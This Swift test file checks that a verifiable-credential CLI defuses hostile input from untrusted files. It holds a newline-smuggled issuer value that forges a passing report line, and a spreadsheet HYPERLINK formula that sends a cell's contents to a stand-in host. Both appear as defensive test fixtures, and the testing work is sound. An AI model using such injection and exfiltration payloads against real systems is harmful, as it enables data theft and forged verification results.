import Foundation
import Testing

/// Text from a file reaches the terminal on one line, with the file named: a forged value cannot draw a
/// report line of its own or bury the message.
@Suite("cmevc output of values from untrusted files")
struct UntrustedTextCommandTests {
    func write(_ text: String, _ name: String, in dir: URL) throws {
        try text.write(to: dir.appendingPathComponent(name), atomically: true, encoding: .utf8)
    }

    func credential(issuer: String, type: String = "VerifiableCredential") throws -> String {
        let object: [String: Any] = [
            "@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential", type],
            "issuer": issuer, "credentialSubject": ["id": "did:example:subject"],
        ]
        return String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self)
    }

    @Test("a line break in an issuer cannot forge a passing check line in the verification report")
    func forgedReportLine() throws {
        let dir = try CLI.temporaryDirectory()
        try CLI.run(["registry", "init", "--id", "did:web:registry.example", "--name", "R", "registry.json"], in: dir)
        let forged = "did:example:evil\n    ✓ issuer         did:example:evil is in the registry\n"
        try write(try credential(issuer: forged), "vc.json", in: dir)
        let result = try CLI.run(["verify", "--registry", "registry.json", "vc.json"], in: dir)
        #expect(result.status == 1)
        #expect(result.stdout.contains("did:example:evil\\n    ✓ issuer"))
        let lines = result.stdout.split(separator: "\n")
        #expect(!lines.contains { $0.hasPrefix("    ✓ issuer") }, "\(result.stdout)")
    }

    @Test("a 100,000-character value is cut in the report and in errors; every line stays short")
    func hugeValue() throws {
        let dir = try CLI.temporaryDirectory()
        try CLI.run(["keys", "generate", "--out", "k.pem"], in: dir)
        try CLI.run(["registry", "init", "--id", "did:web:registry.example", "--name", "R", "registry.json"], in: dir)
        let huge = "Huge" + String(repeating: "y", count: 100_000)
        try write(try credential(issuer: "did:example:issuer", type: huge), "vc.json", in: dir)
        let verified = try CLI.run(["verify", "--registry", "registry.json", "vc.json"], in: dir)
        #expect(verified.status == 1)
        #expect(verified.stdout.contains("Hugeyyy"))
        #expect(verified.stdout.split(separator: "\n").allSatisfy { $0.unicodeScalars.count <= 600 })
        let signed = try CLI.run(["sign", "--key", "k.pem", "vc.json"], in: dir)
        #expect(signed.status == 2)
        #expect(signed.stderr.hasPrefix("Error: vc.json: /type/1: "))
        #expect(signed.stderr.contains("is not defined by the context"))
        #expect(signed.stderr.unicodeScalars.count <= 4_002)
    }

    @Test("sign and canonicalize name the file in a JSON-LD error")
    func signNamesTheFile() throws {
        let dir = try CLI.temporaryDirectory()
        try CLI.run(["keys", "generate", "--out", "k.pem"], in: dir)
        try write(try credential(issuer: "did:example:issuer", type: "Foo"), "doc.json", in: dir)
        for arguments in [["sign", "--key", "k.pem", "doc.json"], ["canonicalize", "--rdfc", "doc.json"]] {
            let result = try CLI.run(arguments, in: dir)
            #expect(result.status == 2)
            #expect(result.stderr == "Error: doc.json: /type/1: the type \"Foo\" is not defined by the context\n")
        }
        try write("[1]", "array.json", in: dir)
        let jwt = try CLI.run(["sign", "--format", "jwt", "--key", "k.pem", "array.json"], in: dir)
        #expect(jwt.status == 2)
        #expect(jwt.stderr.hasPrefix("Error: array.json: "))
    }

    @Test(
        "verify --proof-only names the file of a broken JWT, explains text that is neither JSON nor a JWT, and claims no check it did not run"
    )
    func proofOnlyUnreadable() throws {
        let dir = try CLI.temporaryDirectory()
        // A header whose "crit" lists a parameter it lacks.
        try write("eyJhbGciOiJFZERTQSIsImNyaXQiOlsieCJdfQ.e30.AAAA", "crit.jwt", in: dir)
        try write("not a token", "plain.jwt", in: dir)
        let crit = try CLI.run(["verify", "--proof-only", "crit.jwt"], in: dir)
        #expect(crit.status == 2)
        #expect(crit.stderr.hasPrefix("Error: crit.jwt: header/crit: "))
        #expect(!crit.stdout.contains("proofs were checked"))
        let plain = try CLI.run(["verify", "--proof-only", "plain.jwt"], in: dir)
        #expect(plain.status == 2)
        #expect(plain.stderr.contains("plain.jwt: line 1, column 1: "))
        #expect(plain.stderr.contains("nor a compact JWT"))
        try CLI.run(["registry", "init", "--id", "did:web:registry.example", "--name", "R", "registry.json"], in: dir)
        let full = try CLI.run(["verify", "--registry", "registry.json", "plain.jwt"], in: dir)
        #expect(full.status == 2)
        #expect(full.stdout.contains("nor a compact JWT"))
    }

    @Test("wallet import names a file it refuses once, with the reason")
    func walletImportNamesTheFileOnce() throws {
        let dir = try CLI.temporaryDirectory()
        let big = Data("{\"a\":\"".utf8) + Data(repeating: 0x78, count: 17 * 1024 * 1024) + Data("\"}".utf8)
        try big.write(to: dir.appendingPathComponent("big.json"))
        try write("{\"a\":1,\"a\":2}", "dup.json", in: dir)
        let result = try CLI.run(["wallet", "import", "--wallet", "w", "big.json", "dup.json"], in: dir)
        #expect(result.status == 1)
        let lines = result.stderr.split(separator: "\n")
        #expect(lines.contains { $0.hasPrefix("big.json: the file is ") && $0.hasSuffix("[documentTooLarge]") })
        #expect(lines.contains { $0.hasPrefix("dup.json: line 1, column 8: ") }, "\(result.stderr)")
        #expect(!result.stderr.contains("big.json: big.json"))
    }

    @Test("wallet list --format csv defuses issuer-written text a spreadsheet would run as a formula")
    func walletCSVFormulas() throws {
        let dir = try CLI.temporaryDirectory()
        try FileManager.default.createDirectory(
            at: dir.appendingPathComponent("w"), withIntermediateDirectories: true)
        let object: [String: Any] = [
            "@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential"],
            "id": "urn:uuid:1", "validFrom": "2026-03-02T00:00:00Z",
            "issuer": ["id": "did:example:issuer", "name": "=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"],
            "credentialSubject": ["achievement": ["name": "@SUM(A1:A9)"]],
        ]
        try write(
            String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self), "w/vc.json",
            in: dir)
        let listed = try CLI.run(["wallet", "list", "--wallet", "w", "--format", "csv"], in: dir)
        #expect(listed.status == 0, "\(listed.stderr)")
        let lines = listed.stdout.split(separator: "\n")
        #expect(lines.count == 2)
        #expect(
            lines.last
                == "2026-03-02,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"open\"\")\",'@SUM(A1:A9),,,,urn:uuid:1",
            "\(listed.stdout)")
    }
}
